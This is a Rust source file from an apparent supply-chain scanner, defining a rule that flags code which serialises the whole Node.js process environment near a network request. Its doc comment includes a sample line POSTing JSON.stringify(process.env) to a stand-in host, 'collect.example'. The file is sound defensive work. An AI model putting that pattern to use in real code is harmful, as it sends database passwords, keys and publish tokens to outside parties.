use super::{Cx, Hit, network_near};
use portcullis_core::declare_rule;

declare_rule! {
    /// ## What it does
    /// Finds the whole environment serialised (`JSON.stringify(process.env)`,
    /// `Object.entries(process.env)`, `querystring.stringify(process.env)`) in a function
    /// that makes a network request (or inside the request's callback). Listing only the
    /// names (`Object.keys(process.env)`, as `debug` does) is not serialising the values.
    ///
    /// ## Why is this bad?
    /// The environment of an n8n or Node-RED host holds its database password, encryption
    /// key and cloud tokens; in CI it holds the publish tokens. Sending all of it somewhere
    /// is the first thing install-time stealers do.
    ///
    /// ## Example
    /// ```js
    /// https.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(process.env));
    /// ```
    ///
    /// ## Use instead
    /// Read the one variable you need, and never send it anywhere but its service.
    ///
    /// ## References
    /// - CWE-200: Exposure of Sensitive Information
    /// - CWE-526: Exposure of Sensitive Information Through Environmental Variables
    /// - GuardDog `npm-serialize-environment`
    pub static RULE = {
        id: "behaviour/env-exfiltration",
        title: "Environment serialised and sent out",
        category: SupplyChain,
        severity: Critical,
        confidence: High,
        summary: "The whole process environment is serialised next to a network request",
        cwe: [200, 526],
        signals: [Exfiltration],
        fixtures: [
            pos "crates/behaviour/fixtures/env-exfiltration/pos/env-post.js",
            neg "crates/behaviour/fixtures/env-exfiltration/neg/spawn-with-env.js",
        ],
    }
}

pub fn check(cx: &Cx<'_>) -> Vec<Hit> {
    let f = cx.facts;
    for e in f.env_reads.iter().filter(|e| e.name.is_none()) {
        if let Some(net) = network_near(f, e.func, e.span) {
            return vec![Hit::new(
                &RULE,
                e.span,
                format!(
                    "serialises `process.env` in the function that calls `{}`",
                    net.callee
                ),
            )];
        }
    }
    Vec::new()
}
